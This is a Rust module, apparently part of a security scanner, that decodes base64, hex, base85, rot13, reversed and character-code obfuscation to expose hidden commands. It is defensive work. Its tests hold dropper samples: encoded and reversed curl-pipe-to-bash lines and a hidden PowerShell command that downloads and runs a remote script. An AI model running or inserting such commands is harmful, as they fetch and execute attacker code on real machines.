//! Payloads decoded before matching: base64 (and gzip/zlib inside it), hex and `\x` escapes,
//! base85/ascii85, base32, rot13 and reversed strings where the text asks for them, `chr()`
//! and character-code lists. Each decoder is linear in its input and bounded in its output; a
//! result is kept only when it reads as text (a command, not image data or a hash).

use std::io::Read as _;
use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

/// A payload found in a text: where it starts, how it was encoded, and what it says.
#[derive(Debug)]
pub struct Decoded {
    pub at: usize,
    pub how: &'static str,
    pub text: String,
}

use super::regex as re;

/// Base64 engines that take what droppers write: with or without padding, any trailing bits.
fn engine(alphabet: &base64::alphabet::Alphabet) -> base64::engine::GeneralPurpose {
    let config = base64::engine::GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::RequireNone);
    base64::engine::GeneralPurpose::new(alphabet, config)
}
static STANDARD: LazyLock<base64::engine::GeneralPurpose> =
    LazyLock::new(|| engine(&base64::alphabet::STANDARD));
static URL_SAFE: LazyLock<base64::engine::GeneralPurpose> =
    LazyLock::new(|| engine(&base64::alphabet::URL_SAFE));

static BASE64: LazyLock<Regex> = LazyLock::new(|| re(r"[A-Za-z0-9+/_-]{16,}={0,2}"));
static HEX: LazyLock<Regex> = LazyLock::new(|| re(r"\b(?:[0-9a-fA-F]{2}){16,}\b"));
static ESCAPES: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?:\\x[0-9a-fA-F]{2}|\\u00[0-9a-fA-F]{2}|\\[0-3][0-7]{2}){6,}"));
static CHR: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)(?:chr|\[char\])\s*\(?\s*(\d{1,3})\s*\)?"));
static CODES: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?:fromCharCode\s*\(|[\[({]\s*)((?:0x[0-9a-fA-F]{1,2}|\d{1,3})(?:\s*,\s*(?:0x[0-9a-fA-F]{1,2}|\d{1,3})){5,})",
    )
});
static STRING: LazyLock<Regex> =
    LazyLock::new(|| re(r#""((?:[^"\\\n]|\\.){12,})"|'((?:[^'\\\n]|\\.){12,})'"#));

/// Whether decoded bytes read as text: valid UTF-8 (or UTF-16LE, what PowerShell's
/// `-EncodedCommand` takes: a zero after every ASCII byte), almost all printable, with a
/// separator (a command or a sentence, not an identifier or noise).
fn textual(bytes: &[u8]) -> Option<String> {
    let wide;
    let text = if bytes.len() >= 12
        && bytes.len().is_multiple_of(2)
        && bytes.iter().skip(1).step_by(2).all(|&b| b == 0)
    {
        let units = bytes.chunks_exact(2).map(|p| u16::from(p[0]));
        wide = char::decode_utf16(units)
            .collect::<Result<String, _>>()
            .ok()?;
        wide.as_str()
    } else {
        std::str::from_utf8(bytes).ok()?
    };
    let total = text.chars().count();
    if total < 6 {
        return None;
    }
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    let has_separator = text.contains([' ', '/', '(', ';', '|', '\n', '.']);
    (printable * 100 >= total * 95 && has_separator).then(|| text.to_string())
}

/// Gzip or zlib data inflated (bounded), or the bytes themselves.
fn inflate(bytes: Vec<u8>, limit: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let limit = limit as u64;
    let ok = match bytes.as_slice() {
        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes.as_slice())
            .take(limit)
            .read_to_end(&mut out)
            .is_ok(),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => flate2::read::ZlibDecoder::new(bytes.as_slice())
            .take(limit)
            .read_to_end(&mut out)
            .is_ok(),
        _ => return bytes,
    };
    if ok && !out.is_empty() { out } else { bytes }
}

/// What `text` hides, at most `limit` bytes of it in all. `hints`: what the text's file says
/// it decodes (`b85decode`, `[::-1]`…), which turns on the decoders that would otherwise try
/// every string.
pub fn payloads(text: &str, limit: usize) -> Vec<Decoded> {
    let mut out = Vec::new();
    let left = std::cell::Cell::new(limit);
    let mut push = |at: usize, how: &'static str, decoded: Option<String>| {
        if let Some(decoded) = decoded
            && decoded.len() <= left.get()
        {
            left.set(left.get() - decoded.len());
            out.push(Decoded {
                at,
                how,
                text: decoded,
            });
        }
    };
    for m in BASE64.find_iter(text) {
        let s = m.as_str();
        // An identifier, a path or a word run is not base64: it mixes cases and digits.
        let digits = s.bytes().any(|b| b.is_ascii_digit());
        let upper = s.bytes().any(|b| b.is_ascii_uppercase());
        let lower = s.bytes().any(|b| b.is_ascii_lowercase());
        if !(upper && lower && (digits || s.len() >= 40)) {
            continue;
        }
        let trimmed = s.trim_end_matches('=');
        let engine = if s.contains(['-', '_']) {
            &*URL_SAFE
        } else {
            &*STANDARD
        };
        // A run of a length no encoding gives has a stray last character.
        let usable = match trimmed.len() % 4 {
            1 => &trimmed[..trimmed.len() - 1],
            _ => trimmed,
        };
        if let Ok(bytes) = engine.decode(usable) {
            push(m.start(), "base64", textual(&inflate(bytes, left.get())));
        }
    }
    for m in HEX.find_iter(text) {
        let bytes = hex(m.as_str());
        push(m.start(), "hex", textual(&bytes));
    }
    for m in ESCAPES.find_iter(text) {
        push(
            m.start(),
            "escape sequences",
            textual(&unescape(m.as_str())),
        );
    }
    for m in CODES.captures_iter(text) {
        let Some(list) = m.get(1) else { continue };
        let bytes: Option<Vec<u8>> = list
            .as_str()
            .split(',')
            .map(|n| {
                let n = n.trim();
                match n.strip_prefix("0x") {
                    Some(h) => u8::from_str_radix(h, 16).ok(),
                    None => n.parse::<u8>().ok(),
                }
            })
            .collect();
        if let Some(bytes) = bytes.filter(|b| b.iter().all(|&c| (9..127).contains(&c))) {
            push(list.start(), "character codes", textual(&bytes));
        }
    }
    // `chr(99)+chr(117)…` on one line.
    for (start, line) in lines(text) {
        if !line.contains("chr") && !line.contains("[char]") && !line.contains("[Char]") {
            continue;
        }
        let codes: Vec<u8> = CHR
            .captures_iter(line)
            .filter_map(|c| c.get(1)?.as_str().parse::<u8>().ok())
            .collect();
        if codes.len() >= 4 {
            push(start, "chr() calls", textual(&codes));
        }
    }
    let lower = text.to_ascii_lowercase();
    let b85 = lower.contains("b85decode") || lower.contains("base85");
    let a85 = lower.contains("a85decode") || lower.contains("ascii85");
    let b32 = lower.contains("b32decode") || lower.contains("base32");
    // `tr 'A-Za-z' 'N-ZA-Mn-za-m'` is rot13 in a shell.
    let rot13 = lower.contains("rot13")
        || lower.contains("n-za-m")
        || lower.contains("rot_13")
        || lower.contains("'rot")
        || lower.contains("\"rot");
    let reversed = text.contains("[::-1]")
        || lower.contains(".reverse()")
        || lower.contains("| rev")
        || lower.contains("strrev")
        || lower.contains("[array]::reverse");
    if b85 || a85 || b32 || rot13 || reversed {
        for c in STRING.captures_iter(text) {
            let Some(m) = c.get(1).or_else(|| c.get(2)) else {
                continue;
            };
            let s = m.as_str();
            if b85 {
                push(
                    m.start(),
                    "base85",
                    base85(s).and_then(|b| textual(&inflate(b, left.get()))),
                );
            }
            if a85 {
                push(
                    m.start(),
                    "ascii85",
                    ascii85(s).and_then(|b| textual(&inflate(b, left.get()))),
                );
            }
            if b32 {
                push(m.start(), "base32", base32(s).and_then(|b| textual(&b)));
            }
            if rot13 {
                push(m.start(), "rot13", Some(s.chars().map(rot).collect()));
            }
            if reversed {
                push(
                    m.start(),
                    "a reversed string",
                    Some(s.chars().rev().collect()),
                );
            }
        }
    }
    out
}

fn lines(text: &str) -> impl Iterator<Item = (usize, &str)> {
    text.split_inclusive('\n').scan(0, |at, line| {
        let start = *at;
        *at += line.len();
        Some((start, line))
    })
}

fn hex(s: &str) -> Vec<u8> {
    s.as_bytes()
        .chunks(2)
        .filter_map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
        .collect()
}

/// `\x41`, `\u0041` and `\101` escapes to bytes.
fn unescape(s: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let rest = &s[i..];
        if let Some(h) = rest.strip_prefix("\\x").and_then(|r| r.get(..2)) {
            out.extend(u8::from_str_radix(h, 16).ok());
            i += 4;
        } else if let Some(h) = rest.strip_prefix("\\u00").and_then(|r| r.get(..2)) {
            out.extend(u8::from_str_radix(h, 16).ok());
            i += 6;
        } else if let Some(o) = rest.strip_prefix('\\').and_then(|r| r.get(..3)) {
            out.extend(u8::from_str_radix(o, 8).ok());
            i += 4;
        } else {
            i += 1;
        }
    }
    out
}

fn rot(c: char) -> char {
    match c {
        'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
        'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
        _ => c,
    }
}

/// Base85 as Python's `b85decode` reads it (RFC 1924's alphabet).
fn base85(s: &str) -> Option<Vec<u8>> {
    const ALPHABET: &[u8] =
        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let digits: Option<Vec<u32>> = s
        .bytes()
        .map(|b| ALPHABET.iter().position(|&a| a == b).map(|p| p as u32))
        .collect();
    group85(&digits?)
}

/// Ascii85 as Python's `a85decode` reads it (`!`…`u`, `z` for four zero bytes, `<~ ~>`).
fn ascii85(s: &str) -> Option<Vec<u8>> {
    let s = s.trim_start_matches("<~").trim_end_matches("~>");
    let mut digits = Vec::new();
    for b in s.bytes() {
        match b {
            b'z' => digits.extend([0u32; 5]),
            b'!'..=b'u' => digits.push(u32::from(b - b'!')),
            b' ' | b'\n' | b'\r' | b'\t' => {}
            _ => return None,
        }
    }
    group85(&digits)
}

fn group85(digits: &[u32]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(digits.len() * 4 / 5 + 4);
    for chunk in digits.chunks(5) {
        let pad = 5 - chunk.len();
        let mut value: u64 = 0;
        for i in 0..5 {
            value = value * 85 + u64::from(chunk.get(i).copied().unwrap_or(84));
        }
        if value > u64::from(u32::MAX) {
            return None;
        }
        let bytes = (value as u32).to_be_bytes();
        out.extend_from_slice(&bytes[..4 - pad]);
    }
    Some(out)
}

fn base32(s: &str) -> Option<Vec<u8>> {
    let mut bits: u64 = 0;
    let mut count = 0;
    let mut out = Vec::new();
    for b in s.trim_end_matches('=').bytes() {
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'2'..=b'7' => b - b'2' + 26,
            _ => return None,
        };
        bits = (bits << 5) | u64::from(v);
        count += 5;
        if count >= 8 {
            count -= 8;
            out.push((bits >> count) as u8);
            bits &= (1 << count) - 1;
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn first(text: &str) -> Option<(&'static str, String)> {
        payloads(text, 1 << 20)
            .into_iter()
            .next()
            .map(|d| (d.how, d.text))
    }

    #[test]
    fn decodes_what_droppers_hide() {
        // echo "curl -s http://203.0.113.7/x.sh | bash" | base64
        assert_eq!(
            first("echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g= | base64 -d | sh"),
            Some(("base64", "curl -s http://203.0.113.7/x.sh | bash".into()))
        );
        assert_eq!(
            first(r#"s = "\x63\x75\x72\x6c\x20\x68\x74""#),
            Some(("escape sequences", "curl ht".into()))
        );
        assert_eq!(
            first("exec(bytes([99,117,114,108,32,104,116]))"),
            Some(("character codes", "curl ht".into()))
        );
        assert_eq!(
            first("c = chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)"),
            Some(("chr() calls", "curl h".into()))
        );
        assert_eq!(
            first(r#"exec("hsab | hs.x/7.311.0.302//:ptth s- lruc"[::-1])"#),
            Some((
                "a reversed string",
                "curl -s http://203.0.113.7/x.sh | bash".into()
            ))
        );
        // base64.b85encode(b"curl http://x | sh")
        assert_eq!(
            first(r#"exec(base64.b85decode("V|8+DAZT=Sa5^t9cp!Wrb7%"))"#).map(|d| d.1),
            Some("curl http://x | sh".into())
        );
        // PowerShell's -EncodedCommand is UTF-16LE.
        assert_eq!(
            first("powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHcAaQBuAHAAcgBvAGYAaQBsAGUALgBuAGUAdAAvAHAALgBwAHMAMQAnACkA").map(|d| d.1),
            Some("IEX (New-Object Net.WebClient).DownloadString('https://cdn-winprofile.net/p.ps1')".into())
        );
        // A SHA-256 digest and an identifier are not payloads.
        assert!(
            first("sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae")
                .is_none()
        );
        assert!(first("SomeVeryLongIdentifierNameWithoutDigits").is_none());
    }
}
